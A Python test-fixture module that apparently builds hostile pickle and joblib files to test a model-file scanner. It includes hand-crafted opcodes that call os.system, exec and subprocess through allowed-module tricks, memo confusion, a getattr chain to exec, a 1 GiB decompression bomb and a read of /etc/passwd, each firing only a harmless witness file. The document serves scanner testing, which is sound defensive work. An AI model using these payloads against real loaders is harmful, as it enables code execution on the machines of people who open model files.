"""Files that attack whoever loads them: each with how it is loaded bare, and what its witness is.

A witness is a file that exists once the attack has worked. `fires` is False where loading alone does nothing
that could be seen: those files break a reader or use up its memory.
"""

import gzip
import io
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from joblib.numpy_pickle import NumpyArrayWrapper

__all__ = ["HOSTILE", "Hostile"]


@dataclass(frozen=True)
class Hostile:
    """build(witness) gives the file; says: words of the scan's answer; alone: what the unpickler does.

    after: code that shows, after a bare load of `path` by `loader`, what the load has changed.
    """

    build: Callable[[Path], bytes]
    says: str
    loader: str = "pickle"
    fires: bool = True
    refused_alone: bool = True
    after: str = ""


class Calls:
    """Pickles into a call."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = (function, args)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def touch(witness: Path) -> str:
    return f"touch {witness}"


def exploit(witness: Path) -> Calls:
    return Calls(exec, f"open({str(witness)!r}, 'w').close()")


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def by_global(witness: Path) -> bytes:
    return b"\x80\x02cos\nsystem\n" + text(touch(witness)) + b"\x85R."


def by_inst(witness: Path) -> bytes:
    return b"(" + text(touch(witness)) + b"ios\nsystem\n."


def by_obj(witness: Path) -> bytes:
    return b"(cos\nsystem\n" + text(touch(witness)) + b"o."


def memo_confusion(witness: Path) -> bytes:
    """The memo's slots are written twice: who keeps the first value reads an allowed name."""
    benign = text("collections") + b"q\x00" + text("OrderedDict") + b"q\x01"
    hostile = b"0" + text("os") + b"q\x00" + b"0" + text("system") + b"q\x010"
    return b"\x80\x04" + benign + b"0" + hostile + b"h\x00h\x01\x93" + text(touch(witness)) + b"\x85R."


def runstring(witness: Path) -> bytes:
    from numpy.testing._private.utils import runstring as run

    return pickle.dumps(Calls(run, f"open({str(witness)!r}, 'w').close()", {}), 4)


def dotted(witness: Path) -> bytes:
    name = text("joblib.numpy_pickle") + text("os.system") + b"\x93"
    return b"\x80\x04" + name + text(touch(witness)) + b"\x85R."


def re_export(witness: Path) -> bytes:
    name = b"csklearn.utils._testing\ncheck_output\n"
    return b"\x80\x02" + name + b"](" + text("touch") + text(str(witness)) + b"e\x85R."


def resolve_name(witness: Path) -> bytes:
    found = b"cpkgutil\nresolve_name\n" + text("os:system") + b"\x85R"
    return b"\x80\x02" + found + text(touch(witness)) + b"\x85R."


def built_name(witness: Path) -> bytes:
    """The module's name is the answer of an allowed call."""
    name = b"ccollections\nCounter\n" + text("os") + b"\x85R" + text("system") + b"\x93"
    return b"\x80\x04" + name + text(touch(witness)) + b"\x85R."


def cloudpickled(_witness: Path) -> bytes:
    import cloudpickle
    from sklearn.preprocessing import FunctionTransformer

    data: bytes = cloudpickle.dumps(FunctionTransformer(lambda x: x + 1))
    return data


def by_joblib(compress: Any) -> Callable[[Path], bytes]:
    def build(witness: Path) -> bytes:
        return dumped([1, exploit(witness)], compress)

    return build


def dumped(value: Any, compress: Any = 0) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file, compress=compress)
    return file.getvalue()


def object_array(witness: Path) -> bytes:
    return dumped({"kept": np.array([exploit(witness), 1], dtype=object)})


def after_array(witness: Path) -> bytes:
    return dumped([np.arange(1000.0), exploit(witness), np.arange(3)])


def companion_file(witness: Path) -> bytes:
    beside = witness.with_suffix(".npy")
    np.save(beside, np.array([exploit(witness)], dtype=object), allow_pickle=True)
    state = b"}(" + text("filename") + text(str(beside)) + text("subclass") + b"cnumpy\nndarray\nu"
    return b"\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81" + state + b"b."


def memmap(witness: Path) -> bytes:
    return pickle.dumps(Calls(np.memmap, str(witness), "uint8", "w+", 0, (4,)), 4)


def build_on_class(_witness: Path) -> bytes:
    patch = b"}" + text("link") + text("patched") + b"s"
    return b"\x80\x02csklearn._loss.link\nLogLink\nN" + patch + b"\x86b."


def second_pickle(witness: Path) -> bytes:
    return pickle.dumps([1, 2], 4) + pickle.dumps(exploit(witness), 4)


def across_frame(witness: Path) -> bytes:
    """The frame ends after the opcode's first byte; C's unpickler does not mind."""
    return b"\x80\x04\x95" + struct.pack("<Q", 1) + by_global(witness)[2:]


def distribution(witness: Path) -> bytes:
    from scipy.stats._continuous_distns import uniform_gen

    made = uniform_gen(name="uniform")
    made._parse_arg_template = f"open({str(witness)!r}, 'w').close()\n" + made._parse_arg_template
    return pickle.dumps(made, 4)


def wrapper(shape: tuple[int, ...], dtype: Any = "f8") -> bytes:
    return pickle.dumps(NumpyArrayWrapper(np.ndarray, shape, "C", np.dtype(dtype)), 2)[:-1]


def giant_array(_witness: Path) -> bytes:
    return wrapper((2**36,)) + b"\x01\xff" + bytes(64) + b"."


def giant_memo(_witness: Path) -> bytes:
    return b"\x80\x02Nr" + struct.pack("<I", 2**31) + b"."


def bomb(_witness: Path) -> bytes:
    """1 GiB of one bytes literal in 1 MB: one deflated block again and again."""
    start = b"\x80\x04\x8e" + struct.pack("<Q", 1 << 30)
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = engine.compress(start) + engine.flush(zlib.Z_FULL_FLUSH)
    block = engine.compress(bytes(1 << 20)) + engine.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"")[:10] + first + block * 1024


def hidden_objects(_witness: Path) -> bytes:
    """A dtype of objects that says it holds none: raw bytes of the file would be taken for pointers."""
    data = wrapper((4,), "O")
    flags = data.rindex(b"K?t")  # 63, the flags of an object dtype, at the end of its state
    return data[:flags] + b"K\x00" + data[flags + 2 :] + b"\x01\xff" + b"\x41" * 32 + b"."


def short_list(_witness: Path) -> bytes:
    """An array of 7 objects whose list holds 3: numpy reads past the list's end and takes it for pointers."""
    data = pickle.dumps(np.array([1, "a", None], dtype=object), 4)
    shape = data.rindex(b"K\x03\x85")
    return data[: shape + 1] + b"\x07" + data[shape + 2 :]


def state_of_a_buffer(_witness: Path) -> bytes:
    """A second way to an array, whose state would escape the rule for the first one."""
    made = pickle.dumps(np.arange(3.0), 5)[:-1]
    frame = made[11:] + b"(K\x01K\x07\x85cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87R\x89]tb."
    return made[:3] + struct.pack("<Q", len(frame)) + frame


def wrapper_in_frame(witness: Path) -> bytes:
    """The array's data hold the payload: who skips them inside of the frame reads another file."""
    inner = by_global(witness)[2:]
    described = wrapper((len(inner),), "u1")[2:]
    frame = described + b"0" + inner
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame


def getattr_call(witness: Path) -> bytes:
    """From a listed function to its module's names, to the built-in ones, to exec."""

    def attribute(of: bytes, name: str) -> bytes:
        return b"cbuiltins\ngetattr\n" + of + text(name) + b"\x86R"

    scope = attribute(b"csklearn.preprocessing._data\nscale\n", "__globals__")
    builtin = attribute(scope, "get") + text("__builtins__") + b"\x85R"
    run = attribute(builtin, "get") + text("exec") + b"\x85R"
    return b"\x80\x02" + run + text(f"open({str(witness)!r}, 'w').close()") + b"\x85R."


def replaced_setstate(witness: Path) -> bytes:
    """The first state gives the object a method of its own; the second calls it."""
    first = b"}" + text("__setstate__") + b"cos\nsystem\nsb"
    return b"\x80\x02csklearn.dummy\nDummyClassifier\n)\x81" + first + text(touch(witness)) + b"b."


def held_class(_witness: Path) -> bytes:
    """Reads any file of the machine when it is asked to transform."""
    import xgboost
    from sklearn.preprocessing import FunctionTransformer

    return pickle.dumps(FunctionTransformer(xgboost.Booster, kw_args={"model_file": "/etc/passwd"}), 4)


def after_compressed(witness: Path) -> bytes:
    return zlib.compress(pickle.dumps([1, 2], 4)) + pickle.dumps(exploit(witness), 4)


def old_name(module: str, name: str, argument: bytes) -> Callable[[Path], bytes]:
    """A call of a name that only moved."""
    return lambda _: b"\x80\x02c" + f"{module}\n{name}\n".encode() + argument + b"\x85R."


HOSTILE: dict[str, Hostile] = {
    "an old name of a class, called": Hostile(
        old_name("sklearn.ensemble.forest", "RandomForestClassifier", b"K\x01"),
        "calls sklearn.ensemble._forest.RandomForestClassifier",
        fires=False,
    ),
    "an old module's other function": Hostile(
        old_name("sklearn.preprocessing.data", "scale", b"K\x01"),
        "sklearn.preprocessing.data.scale",
        fires=False,
    ),
    "a metric's old name, called": Hostile(
        old_name("sklearn.metrics.classification", "log_loss", b"K\x01"),
        "calls sklearn.metrics._classification.log_loss",
        fires=False,
    ),
    "an old newObj that makes a table": Hostile(
        old_name("sklearn.neighbors.dist_metrics", "newObj", b"cpandas\nDataFrame\n"),
        "make something else than one of its own classes",
        fires=False,
        refused_alone=False,
    ),
    "os.system by GLOBAL": Hostile(by_global, "os.system"),
    "os.system by INST": Hostile(by_inst, "os.system"),
    "os.system by OBJ": Hostile(by_obj, "os.system"),
    "memo confusion": Hostile(memo_confusion, "memo slot 0 is written"),
    "numpy runstring": Hostile(runstring, "runs a text as code"),
    "dotted name through a listed module": Hostile(dotted, "through one name to another"),
    "re-export of subprocess": Hostile(re_export, "check_output"),
    "pkgutil.resolve_name": Hostile(resolve_name, "pkgutil.resolve_name"),
    "a name put together while loading": Hostile(built_name, "puts together", fires=False),
    "cloudpickled lambda": Hostile(cloudpickled, "carries code inside of the file", fires=False),
    "inside zlib": Hostile(by_joblib(("zlib", 3)), "builtins.exec", loader="joblib"),
    "inside xz": Hostile(by_joblib(("xz", 1)), "builtins.exec", loader="joblib"),
    "inside an object array": Hostile(object_array, "builtins.exec", loader="joblib"),
    "after a raw array": Hostile(after_array, "builtins.exec", loader="joblib"),
    "companion-file array": Hostile(companion_file, "from another file", loader="joblib"),
    "memmap opened for writing": Hostile(memmap, "numpy.memmap"),
    "BUILD on a class": Hostile(
        build_on_class,
        "sets the state of sklearn._loss.link.LogLink",
        after="import sklearn._loss.link as m; m.LogLink.link == 'patched' and open(witness, 'w')",
    ),
    "second pickle after the first": Hostile(
        second_pickle, "follow the end of the pickle", refused_alone=False, after="pickle.load(file)"
    ),
    "opcode across a frame": Hostile(across_frame, "crosses the edge of its frame"),
    "crafted distribution": Hostile(distribution, "code of its own to execute", refused_alone=False),
    "declared 512 GiB array": Hostile(giant_array, "512.0 GiB", loader="joblib", fires=False),
    "memo of 2^31": Hostile(giant_memo, "memo slot 2,147,483,648", fires=False, refused_alone=False),
    "1 GiB bomb in 1 MB": Hostile(bomb, "times its size", loader="joblib", fires=False),
    "dtype that hides objects": Hostile(hidden_objects, "hides that it holds objects", fires=False),
    "array with too short a list": Hostile(short_list, "unusual state of an array", fires=False),
    "state of an array from a buffer": Hostile(
        state_of_a_buffer, "sets the state of what numpy._core.numeric._frombuffer gave", fires=False
    ),
    "array inside of a frame": Hostile(wrapper_in_frame, "does not end its frame", loader="pickle"),
    "getattr": Hostile(getattr_call, "reaches for an attribute by its name"),
    "a replaced __setstate__": Hostile(replaced_setstate, "os.system"),
    "a class that is called later": Hostile(held_class, "keeps xgboost.core.Booster as a value", fires=False),
    "after the compressed data": Hostile(
        after_compressed, "follow the compressed pickle", refused_alone=False, fires=False
    ),
    "extension registry": Hostile(lambda _: b"\x80\x02\x82\x01.", "extension registry", fires=False),
    "persistent id": Hostile(lambda _: b"\x80\x02K\x01Q.", "persistent id", fires=False),
    "outside buffer": Hostile(lambda _: b"\x80\x05\x97.", "buffers kept elsewhere", fires=False),
}
